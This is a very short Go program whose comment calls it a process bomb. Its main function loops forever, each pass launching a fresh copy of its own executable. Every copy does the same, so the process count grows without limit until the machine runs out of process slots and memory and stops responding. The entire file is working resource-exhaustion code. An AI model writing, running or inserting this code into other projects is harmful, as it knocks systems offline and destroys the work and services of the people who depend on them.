// Process bomb: every process starts copies of itself forever.
package main

import (
	"os"
	"os/exec"
)

func main() {
	for {
		cmd := exec.Command(os.Args[0])
		_ = cmd.Start()
	}
}
